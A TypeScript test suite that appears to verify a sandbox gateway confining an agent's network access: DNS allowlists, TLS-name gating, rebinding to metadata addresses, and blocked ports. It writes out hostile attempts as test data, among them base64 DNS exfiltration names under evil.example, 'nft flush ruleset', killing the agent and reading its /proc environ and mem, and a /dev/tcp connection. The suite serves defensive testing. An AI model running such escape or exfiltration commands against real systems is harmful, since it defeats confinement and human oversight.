import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { Policy } from "../../images/agent/contract/policy.ts";
import {
  createWorld,
  GOOD,
  MACHINE,
  METADATA,
  OTHER,
  PRIVATE,
  RESOLVER,
  whyNoNamespaces,
  type World,
  type Zone,
} from "./support/world.ts";

const refusal = await whyNoNamespaces();

const POLICY: Policy = {
  allow: [
    { name: "good.example.com" },
    { name: "shared.example.com" },
    { name: "alias.example.com" },
    { name: "stopping.example.com" },
    { name: "rebind.example.com" },
    { name: "mixed.example.com" },
    { name: "*.wild.example.com" },
    { name: "chat.example.com", ports: [443, 8443] },
    { name: "short.example.com", ports: [8443] },
  ],
};

const both = ({ v4, v6 }: { v4: string; v6: string }, ttl = 60): Zone[string] => [
  { type: "A", data: v4, ttl },
  { type: "AAAA", data: v6, ttl },
];

const ZONE: Zone = {
  "good.example.com": [...both(GOOD), { type: "TXT", data: "carried out" }],
  // On the address of an allowed name, as on a content network.
  "evil.example.com": both(GOOD),
  "other.example.com": both(OTHER),
  "shared.example.com": both(GOOD),
  "alias.example.com": [{ type: "CNAME", data: "target.elsewhere.example" }],
  "target.elsewhere.example": both(GOOD),
  "stopping.example.com": [{ type: "CNAME", data: "target.elsewhere.example", stops: true }],
  "rebind.example.com": [
    { type: "A", data: METADATA },
    { type: "AAAA", data: PRIVATE.v6 },
  ],
  "mixed.example.com": [
    { type: "A", data: PRIVATE.v4 },
    { type: "A", data: GOOD.v4 },
    { type: "AAAA", data: `::ffff:${PRIVATE.v4}` },
  ],
  "a.wild.example.com": both(GOOD),
  "wild.example.com": both(GOOD),
  "chat.example.com": both(OTHER),
  "short.example.com": both(OTHER, 1),
};

type Outcome = { outcome: string; ms?: number };

describe.skipIf(refusal !== null)("a confined gateway", () => {
  let world: World;
  const lookup = (name: string): Promise<string[] | string> => world.gateway.ask({ do: "lookup", name });
  const tls = (host: string, servername: string, more: object = {}): Promise<Outcome> =>
    world.gateway.ask({ do: "tls", host, servername, ...more });
  const tcp = (host: string, port: number, more: object = {}): Promise<Outcome> =>
    world.gateway.ask({ do: "tcp", host, port, ...more });
  const refused = (outcome: Outcome) => {
    expect(outcome.outcome).toMatch(/^E(CONNREFUSED|CONNRESET|ACCES|PERM|HOSTUNREACH)$/);
    expect(outcome.ms ?? 0).toBeLessThan(1_000);
  };

  beforeAll(async () => {
    world = await createWorld();
    await world.zone(ZONE);
  });
  afterAll(() => world.close());

  test("before it is confined, the world is open: what the tests below see refused is really there", async () => {
    expect(await lookup("evil.example.com")).toEqual([GOOD.v4, GOOD.v6]);
    for (const place of [GOOD, OTHER])
      for (const host of [place.v4, place.v6]) {
        expect((await tls(host, "evil.example.com")).outcome).toContain("heard hi");
        for (const port of [80, 25, 3333, 8443]) expect((await tcp(host, port)).outcome).toBe("hello");
        const sent = await world.gateway.ask<Outcome>({ do: "udp", host, port: 443, send: "quic" });
        expect(sent.outcome).toBe("heard");
      }
    for (const host of [METADATA, PRIVATE.v4, PRIVATE.v6])
      expect((await tcp(host, 80)).outcome).toBe("hello");
  });

  describe("by rules, resolver and gate", () => {
    beforeAll(() => world.confine(POLICY));
    beforeEach(async () => {
      await world.update(POLICY);
      await world.seen();
    });

    test.each([GOOD.v4, GOOD.v6])(
      "reaches an allowed name over %s, once it has been looked up",
      async (host) => {
        expect(await lookup("Good.Example.com")).toEqual([GOOD.v4, GOOD.v6]);
        expect((await tls(host, "good.example.com")).outcome).toContain("heard hi");
      },
    );

    test("gets the whole of what it is sent, at its own pace", async () => {
      await lookup("good.example.com");
      const download = { do: "download", host: GOOD.v4, servername: "good.example.com" };
      expect(await world.gateway.ask(download)).toEqual({ bytes: 8 * 1024 * 1024 });
    });

    test.each(["alias.example.com", "stopping.example.com", "a.wild.example.com"])(
      "reaches %s, which is judged by the name that was asked",
      async (name) => {
        expect(await lookup(name)).toEqual([GOOD.v4, GOOD.v6]);
        expect((await tls(GOOD.v4, name)).outcome).toContain(`${name} at`);
      },
    );

    test.each([
      "evil.example.com",
      "target.elsewhere.example",
      "wild.example.com",
      "good.example.com.evil.example",
    ])("%s doesn't exist, and nobody outside hears of it", async (name) => {
      expect(await lookup(name)).toBe("ENOTFOUND");
      expect((await world.seen()).asked).toEqual([]);
    });

    test("a name that carries something out doesn't leave, under an allowed name neither", async () => {
      const names = ["c2VjcmV0.evil.example", "c2VjcmV0.good.example.com"];
      for (const name of names) {
        expect(await lookup(name)).toBe("ENOTFOUND");
        for (const type of ["TXT", "MX", "CNAME"])
          expect(await world.gateway.ask({ do: "query", server: RESOLVER.v4, name, type })).toBe("ENOTFOUND");
      }
      const txt = { do: "query", server: RESOLVER.v4, name: "good.example.com", type: "TXT" };
      expect(await world.gateway.ask(txt)).toBe("ENODATA");
      expect((await world.seen()).asked).toEqual([]);
    });

    test.each([OTHER.v4, `[${OTHER.v6}]`, `${OTHER.v4}:5353`])(
      "can't ask another resolver, %s",
      async (server) => {
        const answer = await world.gateway.ask({ do: "query", server, name: "evil.example.com", type: "A" });
        expect(answer).toMatch(/^E(CONNREFUSED|TIMEOUT)$/);
        expect((await world.seen()).asked).toEqual([]);
      },
    );

    test("its own resolver answers over TCP as well, and only that", async () => {
      refused(await tcp(OTHER.v4, 53, { send: "x" }));
      refused(await tcp(OTHER.v6, 853, { send: "x" }));
      const length = Buffer.from([0, 5, 1, 2, 3, 4, 5]).toString("latin1");
      expect((await tcp(RESOLVER.v4, 53, { send: length })).outcome).toBe("closed");
    });

    test("can't reach an address that no allowed name has just resolved to", async () => {
      for (const host of [OTHER.v4, OTHER.v6]) {
        refused(await tls(host, "good.example.com"));
        refused(await tcp(host, 80));
      }
      expect((await world.seen()).reached).toEqual([]);
    });

    test("can't reach another port or protocol of an allowed address", async () => {
      await lookup("good.example.com");
      for (const host of [GOOD.v4, GOOD.v6]) {
        for (const port of [80, 8443]) refused(await tcp(host, port));
        refused(await world.gateway.ask<Outcome>({ do: "udp", host, port: 443, send: "quic" }));
      }
      expect((await world.seen()).reached).toEqual([]);
    });

    test.each([
      ["another name", "evil.example.com"],
      ["a name below an allowed one", "x.good.example.com"],
      ["an allowed name of another port", "short.example.com"],
    ])("on an allowed address %s is cut by its TLS name", async (_what, servername) => {
      await lookup("good.example.com");
      for (const host of [GOOD.v4, GOOD.v6]) refused(await tls(host, servername));
      expect((await world.seen()).reached).toEqual([]);
    });

    test("on an allowed address what isn't TLS, or names nobody, is cut", async () => {
      await lookup("good.example.com");
      refused(await tcp(GOOD.v4, 443, { send: "GET / HTTP/1.1\r\nhost: good.example.com\r\n\r\n" }));
      refused(await tls(GOOD.v6, ""));
      expect((await world.seen()).reached).toEqual([]);
    });

    test("an allowed TLS name aimed at another allowed address goes to its own", async () => {
      await lookup("chat.example.com");
      expect((await tls(OTHER.v4, "good.example.com")).outcome).toContain(`at ${GOOD.v4}`);
    });

    test("an allowed name that resolves to what isn't public resolves to nothing, and it is counted", async () => {
      expect(await lookup("rebind.example.com")).toMatch(/^E(NOTFOUND|AI_AGAIN|NODATA)$/);
      expect(await lookup("mixed.example.com")).toEqual([GOOD.v4]);
      const { special } = (await world.report()).names;
      expect(special.names.map(({ name }) => name)).toEqual(
        expect.arrayContaining([`rebind.example.com ${METADATA}`, `mixed.example.com ${PRIVATE.v4}`]),
      );
    });

    test.each([METADATA, PRIVATE.v4, PRIVATE.v6])("never reaches %s", async (host) => {
      for (const port of [80, 443]) refused(await tcp(host, port));
      expect((await world.seen()).reached).toEqual([]);
    });

    test("never reaches mail servers and mining pools, and no policy can say otherwise", async () => {
      await lookup("good.example.com");
      for (const port of [25, 3333]) {
        refused(await tcp(GOOD.v4, port));
        refused(await tcp(GOOD.v6, port));
        const policy = { allow: [{ name: "good.example.com", ports: [port] }] };
        await expect(world.update(policy)).rejects.toThrow(
          `Port ${port} of good.example.com can't be allowed.`,
        );
      }
    });

    test("an address is let through for as long as its record lives, within bounds", async () => {
      await world.update({ allow: [] });
      await world.update(POLICY);
      for (const name of ["short.example.com", "good.example.com"]) await lookup(name);
      const json = await world.inMachine(["nft", "-j", "list", "set", "inet", "launchpad_confine", "allow4"]);
      const elements = [...json.matchAll(/"concat": \["([\d.]+)", (\d+)\]\}?, "timeout": (\d+)/g)];
      // One second is too short to connect in; both get a moment more than they live.
      expect(elements.map(([, address, port, seconds]) => [address, Number(port), Number(seconds)])).toEqual(
        expect.arrayContaining([
          [OTHER.v4, 8443, 25],
          [GOOD.v4, 443, 75],
        ]),
      );
    });

    test("may use the ports a name is allowed on", async () => {
      await lookup("chat.example.com");
      for (const host of [OTHER.v4, OTHER.v6]) expect((await tcp(host, 8443)).outcome).toBe("hello");
    });

    test("a name that is taken away is cut where it is in use, and comes back when it is allowed again", async () => {
      await lookup("good.example.com");
      await lookup("chat.example.com");
      for (const [keep, host] of [
        ["t4", GOOD.v4],
        ["t6", GOOD.v6],
      ] as const)
        await tls(host, "good.example.com", { keep });
      for (const [keep, host] of [
        ["c4", OTHER.v4],
        ["c6", OTHER.v6],
      ] as const)
        await tcp(host, 8443, { keep });
      const still = async (keep: string) => (await world.gateway.ask<Outcome>({ do: "still", keep })).outcome;
      for (const keep of ["t4", "t6"]) expect(await still(keep)).toContain("again");
      for (const keep of ["c4", "c6"]) expect(await still(keep)).toBe("more");

      const kept = POLICY.allow.filter(({ name }) => !/^(good|chat|short)\./.test(name));
      await world.update({ allow: kept });
      for (const keep of ["t4", "t6", "c4", "c6"]) expect(await still(keep)).toMatch(/^(closed|ECONNRESET)$/);
      expect(await lookup("good.example.com")).toBe("ENOTFOUND");
      refused(await tcp(OTHER.v4, 8443));
      refused(await tls(GOOD.v4, "good.example.com"));

      await world.update(POLICY);
      await lookup("good.example.com");
      await lookup("chat.example.com");
      expect((await tls(GOOD.v4, "good.example.com")).outcome).toContain("heard hi");
      expect((await tcp(OTHER.v6, 8443)).outcome).toBe("hello");
    });

    test("what another allowed name has too isn't cut", async () => {
      await lookup("good.example.com");
      await lookup("shared.example.com");
      await tls(GOOD.v4, "shared.example.com", { keep: "shared" });
      await world.update({ allow: POLICY.allow.filter(({ name }) => name !== "good.example.com") });
      const { outcome } = await world.gateway.ask<Outcome>({ do: "still", keep: "shared" });
      expect(outcome).toContain("again");
      expect((await tls(GOOD.v6, "shared.example.com")).outcome).toContain("heard hi");
    });

    test("can't go on where the agent has just left off, from the port that the kernel remembers", async () => {
      const from = 30_000;
      const asRoot = `const socket = require("node:dgram").createSocket("udp4");
        socket.once("message", (text) => (console.log(String(text)), socket.close()));
        socket.bind(${from}, () => socket.connect(443, "${GOOD.v4}", () => socket.send("quic")));`;
      expect((await world.inMachine([process.execPath, "-e", asRoot])).trim()).toBe("heard");
      const again = { do: "udp", host: GOOD.v4, port: 443, send: "quic", from };
      expect((await world.gateway.ask<Outcome>(again)).outcome).not.toBe("heard");
    });

    test("changes no rule, from a name space of its own neither, and can't stop or read the agent", async () => {
      const attempts: string[][] = [
        ["nft", "flush", "ruleset"],
        ["nft", "list", "ruleset"],
        ["unshare", "--user", "--map-root-user", "nft", "flush", "ruleset"],
        ["kill", "-9", String(world.agent.pid)],
        ["cat", `/proc/${world.agent.pid}/environ`],
        ["cat", `/proc/${world.agent.pid}/mem`],
        ["ip", "route", "replace", "default", "via", OTHER.v4],
      ];
      for (const command of attempts) {
        const { failed } = await world.gateway.ask<{ failed: boolean }>({ do: "run", command });
        expect({ command, failed }).toEqual({ command, failed: true });
      }
      const status = await world.gateway.ask<string>({ do: "status" });
      expect(status).toMatch(/^CapEff:\s0+$/m);
      expect(status).toMatch(/^NoNewPrivs:\s1$/m);
      refused(await tcp(OTHER.v4, 80));
    });

    test("the agent itself may go where it must", async () => {
      const { v4 } = OTHER;
      const script = `exec 3<>/dev/tcp/${v4}/80; head -c 5 <&3`;
      expect(await world.inMachine(["bash", "-c", script])).toBe("hello");
    });

    test("counts what it refused, and names a bounded number of it", async () => {
      for (let i = 0; i < 80; i += 1) await lookup(`x${i}.evil.example`);
      refused(await tcp(OTHER.v4, 80));
      const { names, tls: gate, packets } = await world.report();
      expect(names.refused.total).toBeGreaterThanOrEqual(80);
      expect(names.refused.names.length).toBeLessThanOrEqual(50);
      expect(gate.refused.names.map(({ name }) => name)).toContain("evil.example.com");
      expect(packets.destinations).toContainEqual(
        expect.objectContaining({ address: OTHER.v4, protocol: "tcp", port: 80 }),
      );
      for (const why of ["special", "port", "dns", "other", "revoked"] as const)
        expect({ why, counted: packets.refused[why] > 0 }).toEqual({ why, counted: true });
    });
  });

  test("when nft dies, what runs goes on, nothing is let through that wasn't, and the next name brings it back", async () => {
    // What was let through before is taken back.
    await world.update({ allow: [] });
    await world.update(POLICY);
    await lookup("good.example.com");
    const pids = (
      await world.inMachine(["sh", "-c", "pgrep -P $0 nft || true", String(world.agent.pid)])
    ).trim();
    expect(pids).toMatch(/^\d+$/);
    process.kill(Number(pids), "SIGKILL");
    expect((await tls(GOOD.v4, "good.example.com")).outcome).toContain("heard hi");
    refused(await tcp(OTHER.v4, 8443));
    await lookup("chat.example.com");
    expect((await tcp(OTHER.v4, 8443)).outcome).toBe("hello");
  });

  test("names below a wildcard are asked for at a pace at which they carry little", async () => {
    await world.seen();
    const names = Array.from({ length: 400 }, (_value, i) => `c2VjcmV0-${i}.wild.example.com`);
    await Promise.all(
      names.map((name) => world.gateway.ask({ do: "query", server: RESOLVER.v4, name, type: "A" })),
    );
    const { asked } = await world.seen();
    expect(asked.length).toBeLessThan(380);
    expect((await world.report()).names.throttled).toBeGreaterThan(0);
  });

  test("when the agent dies, no name resolves, nothing new is let through and the rules stay", async () => {
    await world.agent.kill();
    expect(await lookup("a.wild.example.com")).toMatch(/^E/);
    refused(await tcp(OTHER.v4, 80));
    refused(await tcp(METADATA, 80));
    expect((await tls(GOOD.v4, "good.example.com")).outcome).toBe("ECONNREFUSED");
  });
});

describe.skipIf(refusal !== null)("a machine", () => {
  let world: World;
  const places = [MACHINE.v4, MACHINE.v6];
  beforeAll(async () => {
    world = await createWorld();
    for (const address of [...places, "127.0.0.1"])
      for (const port of [8080, 9090]) await world.servers.ask({ do: "serve", kind: "tcp", address, port });
  });
  afterAll(() => world.close());
  const from = async (who: "stranger" | "gateway", host: string, port: number) =>
    (await world[who].ask<Outcome>({ do: "tcp", host, port })).outcome;

  test("is reached on its public ports alone, and its gateway can't use the agent's", async () => {
    for (const host of places)
      for (const port of [8080, 9090]) expect(await from("stranger", host, port)).toBe("hello");
    expect(await from("gateway", "127.0.0.1", 9090)).toBe("hello");

    await world.confine({ allow: [] }, { publicPorts: [8080], agentPorts: [9090] });
    for (const host of places) {
      expect(await from("stranger", host, 8080)).toBe("hello");
      expect(await from("stranger", host, 9090)).toBe("ECONNREFUSED");
    }
    expect(await from("gateway", "127.0.0.1", 8080)).toBe("hello");
    for (const host of ["127.0.0.1", ...places])
      expect(await from("gateway", host, 9090)).toBe("ECONNREFUSED");
    expect((await world.report()).packets.refused.agent).toBeGreaterThan(0);
  });
});
